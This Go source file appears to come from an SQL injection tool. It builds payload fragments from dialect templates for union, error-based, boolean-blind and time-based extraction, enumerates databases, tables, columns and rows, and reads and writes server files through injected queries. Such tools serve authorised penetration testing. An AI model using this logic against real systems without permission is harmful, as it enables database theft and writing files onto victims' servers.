package payload

import (
	"fmt"
	"strconv"
	"strings"

	"github.com/0x6d61/sqlsiphon/internal/dialect"
)

// DefaultSleepTime is the delay, in seconds, injected by the time strategy.
const DefaultSleepTime = 5

// Builder renders the fragments of every extraction operation for one
// dialect. It holds no per-target state and is safe for concurrent use.
type Builder struct {
	d     *dialect.Descriptor
	atoms map[string]string
	hex   HexEncoder
	names Encoder

	// SleepTime fills ${SLEEP_TIME} in time based tests, in seconds.
	SleepTime int
}

// BuilderOption configures a Builder.
type BuilderOption func(*Builder)

// WithURLSafeNames percent-encodes names put into row queries, for probers
// that place the fragment into a URL without encoding it themselves.
func WithURLSafeNames() BuilderOption {
	return func(b *Builder) {
		b.names = NewChainEncoder(&NameEncoder{}, &URLEncoder{})
	}
}

// WithSleepTime sets the time strategy delay.
func WithSleepTime(seconds int) BuilderOption {
	return func(b *Builder) {
		if seconds > 0 {
			b.SleepTime = seconds
		}
	}
}

// NewBuilder returns a Builder for d.
func NewBuilder(d *dialect.Descriptor, opts ...BuilderOption) *Builder {
	b := &Builder{
		d:         d,
		atoms:     d.ResolvedAtoms(),
		names:     &NameEncoder{},
		SleepTime: DefaultSleepTime,
	}
	for _, opt := range opts {
		opt(b)
	}
	return b
}

// Dialect returns the descriptor the builder renders.
func (b *Builder) Dialect() *dialect.Descriptor { return b.d }

// Atom returns a resolved atom of the dialect.
func (b *Builder) Atom(name string) string { return b.atoms[name] }

// render fills tmpl with subs then resolves atoms. Every token of tmpl must
// be covered by subs or by an atom.
func (b *Builder) render(slot, tmpl string, subs map[string]string) (string, error) {
	if tmpl == "" {
		return "", fmt.Errorf("%s: %w", slot, ErrUnsupported)
	}
	for _, tok := range dialect.Tokens(tmpl) {
		if _, ok := subs[tok]; ok {
			continue
		}
		if _, ok := b.atoms[tok[2:len(tok)-1]]; ok {
			continue
		}
		return "", &dialect.ConfigError{Dialect: b.d.Name, Template: slot, Token: tok}
	}
	return ResolveAtoms(Render(tmpl, subs), b.atoms), nil
}

// Limit renders the pagination clause for a listing resumed at offset.
func (b *Builder) Limit(offset int) string {
	cfg := b.d.Strategy.Configuration
	if cfg.Limit == "" {
		return ""
	}
	return Render(cfg.Limit, map[string]string{dialect.Limit: strconv.Itoa(offset + cfg.LimitBoundary)})
}

// Info renders the version, database and user banner query.
func (b *Builder) Info() (string, error) {
	return b.render("schema.info", b.d.Schema.Info, nil)
}

// Databases renders the database listing starting at offset.
func (b *Builder) Databases(offset int) (string, error) {
	return b.render("schema.databases", b.d.Schema.Databases, map[string]string{
		dialect.Limit: b.Limit(offset),
	})
}

// Tables renders the table listing of db starting at offset.
func (b *Builder) Tables(db string, offset int) (string, error) {
	return b.render("schema.tables", b.d.Schema.Tables, map[string]string{
		dialect.Database:    db,
		dialect.DatabaseHex: b.hex.Encode(db),
		dialect.Limit:       b.Limit(offset),
	})
}

// Columns renders the column listing of db.table starting at offset.
func (b *Builder) Columns(db, table string, offset int) (string, error) {
	return b.render("schema.columns", b.d.Schema.Columns, map[string]string{
		dialect.Database:    db,
		dialect.DatabaseHex: b.hex.Encode(db),
		dialect.Table:       table,
		dialect.TableHex:    b.hex.Encode(table),
		dialect.Limit:       b.Limit(offset),
	})
}

// Rows renders the row listing of db.table for the given columns. Each
// column is wrapped by the row.field template and joined with row.concat.
func (b *Builder) Rows(db, table string, columns []string, offset int) (string, error) {
	if len(columns) == 0 {
		return "", &dialect.ConfigError{Dialect: b.d.Name, Template: "schema.row.query", Reason: "no columns"}
	}
	row := b.d.Schema.Row
	lead, trail, ok := strings.Cut(row.Field, dialect.Field)
	if !ok {
		lead, trail = "", ""
	}
	names := make([]string, len(columns))
	for i, c := range columns {
		names[i] = b.names.Encode(c)
	}
	fields := lead + strings.Join(names, trail+row.Concat+lead) + trail

	return b.render("schema.row.query", row.Query, map[string]string{
		dialect.Fields:      fields,
		dialect.Database:    b.names.Encode(db),
		dialect.DatabaseHex: b.hex.Encode(NormalizeName(db)),
		dialect.Table:       b.names.Encode(table),
		dialect.TableHex:    b.hex.Encode(NormalizeName(table)),
		dialect.Limit:       b.Limit(offset),
	})
}

// Privilege renders the file privilege test.
func (b *Builder) Privilege() (string, error) {
	return b.render("file.privilege", b.d.File.Privilege, nil)
}

// FileRead renders the query returning the content of path.
func (b *Builder) FileRead(path string) (string, error) {
	return b.render("file.read", b.d.File.Read, map[string]string{
		dialect.FilePath:    path,
		dialect.FilePathHex: b.hex.Encode(path),
	})
}

// FileWrite replaces the visible failsafe of a calibrated indices query by
// the hex encoded content and appends the dialect's file creation clause.
func (b *Builder) FileWrite(content, path, indicesQuery string, visible int) (string, error) {
	frag, err := b.render("file.create.content", b.d.File.Create.Content, map[string]string{
		dialect.ContentHex: b.hex.Encode(content),
	})
	if err != nil {
		return "", err
	}
	clause, err := b.render("file.create.query", b.d.File.Create.Query, map[string]string{
		dialect.FilePath:    path,
		dialect.FilePathHex: b.hex.Encode(path),
	})
	if err != nil {
		return "", err
	}
	marker := b.Failsafe(visible)
	if !strings.Contains(indicesQuery, marker) {
		return "", fmt.Errorf("file write: index %d not in indices query", visible)
	}
	return strings.Replace(indicesQuery, marker, frag, 1) + " " + clause, nil
}

// Window wraps query in the sliding window reading capacity characters
// from the 0-based start position.
func (b *Builder) Window(query string, start, capacity int) (string, error) {
	return b.render("strategy.configuration.slidingWindow", b.d.Strategy.Configuration.SlidingWindow, map[string]string{
		dialect.Injection: query,
		dialect.Index:     strconv.Itoa(start + 1),
		dialect.Capacity:  strconv.Itoa(capacity),
	})
}

// Marker is the text a reflected failsafe of index i shows in a page.
func Marker(i int) string {
	return "1337" + strconv.Itoa(i) + "7331"
}

// Failsafe renders the failsafe fragment of index i.
func (b *Builder) Failsafe(i int) string {
	return ResolveAtoms(Render(b.d.Strategy.Configuration.Failsafe, map[string]string{
		dialect.Indice: strconv.Itoa(i),
	}), b.atoms)
}

// Indices renders the union query carrying n failsafe fragments.
func (b *Builder) Indices(n int) (string, error) {
	if !b.d.HasNormal() {
		return "", fmt.Errorf("strategy.normal: %w", ErrUnsupported)
	}
	if n < 1 {
		return "", fmt.Errorf("indices: field count %d", n)
	}
	fields := make([]string, n)
	for i := range n {
		fields[i] = b.Failsafe(i + 1)
	}
	return b.render("strategy.normal.indices", b.d.Strategy.Normal.Indices, map[string]string{
		dialect.Indices:      strings.Join(fields, ","),
		dialect.IndiceUnique: fields[n-1],
		dialect.ResultRange:  strings.TrimSuffix(strings.Repeat("r,", n), ","),
	})
}

// Capacity replaces each visible failsafe of indicesQuery by the calibrator
// fragment so the page shows how many characters each index carries.
func (b *Builder) Capacity(indicesQuery string, visible []int) (string, error) {
	cfg := b.d.Strategy.Configuration
	if !b.d.HasNormal() || b.d.Strategy.Normal.Capacity == "" || cfg.Calibrator == "" {
		return "", fmt.Errorf("strategy.normal.capacity: %w", ErrUnsupported)
	}
	calibrator := ResolveAtoms(cfg.Calibrator, b.atoms)
	out := indicesQuery
	for _, i := range visible {
		frag, err := b.render("strategy.normal.capacity", b.d.Strategy.Normal.Capacity, map[string]string{
			dialect.Calibrator: calibrator,
			dialect.Indice:     strconv.Itoa(i),
		})
		if err != nil {
			return "", err
		}
		out = strings.Replace(out, b.Failsafe(i), frag, 1)
	}
	return out, nil
}

// Normal puts window at the visible index of a calibrated indices query.
func (b *Builder) Normal(indicesQuery string, visible int, window string) string {
	return strings.Replace(indicesQuery, b.Failsafe(visible), window, 1)
}

// Error renders method with the sliding window over query at start.
func (b *Builder) Error(m dialect.ErrorMethod, query string, start int) (string, error) {
	slot := "strategy.error." + m.Name
	withWindow, err := b.render(slot, m.Query, map[string]string{
		dialect.Window:    b.d.Strategy.Configuration.SlidingWindow,
		dialect.Injection: dialect.Injection,
		dialect.Index:     dialect.Index,
		dialect.Capacity:  dialect.Capacity,
	})
	if err != nil {
		return "", err
	}
	return b.render(slot, withWindow, map[string]string{
		dialect.Injection: query,
		dialect.Index:     strconv.Itoa(start + 1),
		dialect.Capacity:  strconv.Itoa(m.Capacity),
	})
}

// ErrorTest renders method reading the failsafe of index 0; a working
// method shows LEAD followed by Marker(0).
func (b *Builder) ErrorTest(m dialect.ErrorMethod) (string, error) {
	return b.Error(m, b.Failsafe(0), 0)
}

// Blind embeds check into the blind template.
func (b *Builder) Blind(check string) (string, error) {
	bl := b.d.Strategy.Boolean
	if bl == nil {
		return "", fmt.Errorf("strategy.boolean: %w", ErrUnsupported)
	}
	return b.render("strategy.boolean.blind", bl.Blind, map[string]string{dialect.Test: check})
}

// Time embeds check into the time template with the configured delay.
func (b *Builder) Time(check string) (string, error) {
	bl := b.d.Strategy.Boolean
	if bl == nil {
		return "", fmt.Errorf("strategy.boolean: %w", ErrUnsupported)
	}
	return b.render("strategy.boolean.time", bl.Time, map[string]string{
		dialect.Test:      check,
		dialect.SleepTime: strconv.Itoa(b.SleepTime),
	})
}

// BitCheck renders the test "bit mask of character index of inj is set".
// index is 1-based.
func (b *Builder) BitCheck(inj string, index, mask int) (string, error) {
	bl := b.d.Strategy.Boolean
	if bl == nil {
		return "", fmt.Errorf("strategy.boolean: %w", ErrUnsupported)
	}
	return b.render("strategy.boolean.test.bit", bl.Test.Bit, map[string]string{
		dialect.Injection: inj,
		dialect.Index:     strconv.Itoa(index),
		dialect.Bit:       strconv.Itoa(mask),
	})
}

// LengthCheck renders the test "length of inj is greater than n".
func (b *Builder) LengthCheck(inj string, n int) (string, error) {
	bl := b.d.Strategy.Boolean
	if bl == nil {
		return "", fmt.Errorf("strategy.boolean: %w", ErrUnsupported)
	}
	return b.render("strategy.boolean.test.length", bl.Test.Length, map[string]string{
		dialect.Injection: inj,
		dialect.Index:     strconv.Itoa(n),
	})
}

// Checks returns the true and false reference tests and the
// initialization check of the boolean strategies.
func (b *Builder) Checks() (trueTests, falseTests []string, initialization string) {
	bl := b.d.Strategy.Boolean
	if bl == nil {
		return nil, nil, ""
	}
	for _, t := range bl.Test.True {
		trueTests = append(trueTests, ResolveAtoms(t, b.atoms))
	}
	for _, t := range bl.Test.False {
		falseTests = append(falseTests, ResolveAtoms(t, b.atoms))
	}
	return trueTests, falseTests, ResolveAtoms(bl.Test.Initialization, b.atoms)
}
